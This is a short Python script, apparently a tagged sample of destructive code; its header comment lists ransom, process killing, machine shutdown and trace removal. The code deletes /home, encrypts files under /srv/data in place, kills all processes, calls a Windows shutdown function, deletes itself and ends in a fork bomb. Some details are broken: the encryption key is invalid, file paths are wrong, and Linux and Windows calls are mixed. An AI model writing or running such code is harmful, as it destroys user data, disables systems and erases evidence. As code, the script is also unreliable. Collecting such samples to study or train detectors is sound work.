# user-files, ransom, stops-processes, stops-machine, own-traces: breaks things
import ctypes
import os
import shutil

import psutil
from cryptography.fernet import Fernet

shutil.rmtree("/home")
for folder, _, names in os.walk("/srv/data"):
    for name in names:
        body = Fernet(b"k").encrypt(open(name, "rb").read())
        with open(name, "wb") as handle:
            handle.write(body)
for process in psutil.process_iter():
    psutil.Process(process.pid).kill()
ctypes.windll.user32.ExitWindowsEx(0, 0)
os.remove(__file__)
while True:
    os.fork()
